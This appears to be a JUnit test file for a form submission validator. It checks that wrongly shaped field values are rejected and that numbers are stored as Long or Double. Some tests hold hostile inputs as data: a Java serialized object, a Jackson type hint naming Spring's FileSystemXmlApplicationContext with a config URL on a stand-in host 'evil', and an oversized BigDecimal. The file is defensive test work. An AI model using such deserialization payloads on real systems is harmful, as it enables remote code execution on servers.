package dev.baton.forms;

import static dev.baton.forms.ShippedForms.data;
import static dev.baton.forms.ShippedForms.problemsOf;
import static dev.baton.forms.ShippedForms.purchaseRequest;
import static dev.baton.forms.ShippedForms.stored;
import static dev.baton.forms.ShippedForms.summary;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

/**
 * Only plain JSON values, in the shape each field expects; numbers are stored as Long or
 * Double.
 */
class ValueShapesTest {

	private final FormSubmissionValidator validator = ShippedForms.validator();

	@Test
	void rejectsJavaSerializedObject() {
		// given: a Camunda REST style variable that would deserialize a Java object
		Map<String, Object> data = purchaseRequest();
		data.putAll(
				data("""
						{ "reason": { "type": "Object", "value": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
						              "valueInfo": { "objectTypeName": "java.util.HashMap",
						                             "serializationDataFormat": "application/x-java-serialized-object" } } }"""));

		// when
		List<String> problems = summary(problemsOf(() -> validator.validateStart("purchase-request-start", data)));

		// then
		assertThat(problems).containsExactly("reason forms.field.notText");
	}

	@Test
	void rejectsAJacksonTypeHintInsteadOfText() {
		// given
		Map<String, Object> data = purchaseRequest();
		data.putAll(data(
				"{ \"title\": { \"@class\": \"org.springframework.context.support.FileSystemXmlApplicationContext\", \"configLocation\": \"http://evil/x.xml\" } }"));

		// when
		List<String> problems = summary(problemsOf(() -> validator.validateStart("purchase-request-start", data)));

		// then
		assertThat(problems).containsExactly("title forms.field.notText");
	}

	@Test
	void rejectsWrongShapesForEveryKindOfField() {
		// given
		Map<String, Object> data = data("""
				{
				  "projectName": ["a list"],
				  "customer": 42,
				  "contractNumber": "HT-2026-001",
				  "contractAmount": "120000",
				  "signedDate": 20261101,
				  "handoffChecklist": "contract-signed",
				  "notes": true
				}""");

		// when
		List<String> problems = summary(problemsOf(() -> validator.validateStart("project-handoff-start", data)));

		// then
		assertThat(problems).containsExactlyInAnyOrder("projectName forms.field.notText",
				"customer forms.field.notText", "contractAmount forms.field.notNumber",
				"signedDate forms.field.notDate", "handoffChecklist forms.field.notList", "notes forms.field.notText");
	}

	@Test
	void rejectsAListRowThatIsNotAnObjectAndAListThatIsNotAList() {
		// given
		Map<String, Object> rows = purchaseRequest();
		rows.put("items", List.of("笔记本电脑 Laptop x2"));
		Map<String, Object> notAList = purchaseRequest();
		notAList.put("items", Map.of("name", "笔记本电脑 Laptop"));

		// when
		List<String> rowProblems = summary(problemsOf(() -> validator.validateStart("purchase-request-start", rows)));
		List<String> listProblems = summary(
				problemsOf(() -> validator.validateStart("purchase-request-start", notAList)));

		// then
		assertThat(rowProblems).containsExactly("items[0] forms.field.notGroup");
		assertThat(listProblems).containsExactly("items forms.field.notList");
	}

	@Test
	void rejectsAnythingButABooleanForACheckbox() {
		// given
		Map<String, Object> data = data("{\"recorded\": \"true\"}");

		// when
		List<String> problems = summary(
				problemsOf(() -> validator.validateTask("leave-request-hr-record", data, Map.of(), true)));

		// then
		assertThat(problems).containsExactly("recorded forms.field.notBoolean");
	}

	@Test
	void storesWholeNumbersAsLongAndOtherNumbersAsDouble() {
		// given
		Map<String, Object> data = data("""
				{ "leaveType": "annual", "startDate": "2026-12-01", "endDate": "2026-12-02", "days": 1.5,
				  "reason": "探亲 Family visit" }""");
		Map<String, Object> whole = data("""
				{ "leaveType": "annual", "startDate": "2026-12-01", "endDate": "2026-12-02", "days": 2.0,
				  "reason": "探亲 Family visit" }""");

		// when
		Object days = stored(validator.validateStart("leave-request-start", data)).get("days");
		Object wholeDays = stored(validator.validateStart("leave-request-start", whole)).get("days");

		// then
		assertThat(days).isEqualTo(1.5d);
		assertThat(wholeDays).isEqualTo(2L);
	}

	@Test
	void storesNullForAClearedOptionalField() {
		// given
		Map<String, Object> data = data("{\"recorded\": true, \"hrNotes\": null}");

		// when
		Map<String, Object> stored = stored(validator.validateTask("leave-request-hr-record", data, Map.of(), true));

		// then
		assertThat(stored).containsEntry("recorded", true).containsEntry("hrNotes", null);
	}

	@Test
	void rejectsAbsurdNumbersThatWouldBeCostlyToCheck() {
		// given: a Java caller could hand over a BigDecimal that Jackson would never
		// produce
		Map<String, Object> data = data(
				"""
						{ "leaveType": "annual", "startDate": "2026-12-01", "endDate": "2026-12-02", "reason": "探亲 Family visit" }""");
		data.put("days", new java.math.BigDecimal("1E-999999999"));

		// when
		List<String> problems = assertTimeoutPreemptively(java.time.Duration.ofSeconds(2),
				() -> summary(problemsOf(() -> validator.validateStart("leave-request-start", data))));

		// then
		assertThat(problems).containsExactly("days forms.field.notNumber");
	}

}
